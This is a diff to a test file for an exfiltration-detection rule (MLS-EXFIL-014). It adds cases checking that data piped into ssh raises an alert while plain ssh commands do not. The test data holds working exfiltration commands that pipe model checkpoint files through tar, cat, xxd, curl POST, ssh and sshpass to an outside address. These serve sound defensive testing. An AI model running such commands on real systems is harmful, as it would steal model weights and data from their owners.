@@ -1,6 +1,6 @@
 /**
  * Exfiltration through an exec, through the shipped rule set and the real engine: curl sending a
- * file or its stdin as the request body (MLS-EXFIL-014) and a pod made to serve its files
+ * file or its stdin as the request body, data piped into ssh (MLS-EXFIL-014) and a pod made to serve its files
  * (MLS-EXFIL-016). Plain API posts, header files and servers that are not started stay quiet.
  */
 import { describe, expect, it } from 'vitest';
@@ -20,6 +20,15 @@ describe('curl with a file as the body (MLS-EXFIL-014)', () => {
       ['curl', '--data-urlencode', '@/tmp/w.b64', U],
       sh(`xxd -p /mnt/ckpt/model.pt | curl -X POST --data-ascii @- ${U}`),
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+  });
+
+  it('alerts on data piped into ssh, and not on ssh running a command', () => {
+    for (const argv of [
+      sh(`tar czf - /mnt/ckpt/llama | ssh -p 2222 u@203.0.113.5 'cat > l.tgz'`),
+      sh(`cat /mnt/ckpt/model.pt | sshpass -p x ssh u@203.0.113.5 "dd of=m.pt"`),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
+    expect(execRuleIds(['ssh', 'bastion.corp.example', 'uptime'])).not.toContain('MLS-EXFIL-014');
+    expect(execRuleIds(sh('ssh bastion.corp.example uptime | tee /tmp/up'))).not.toContain('MLS-EXFIL-014');
   });
 
   it('leaves a plain form post, a header file and a fail-quietly download', () => {
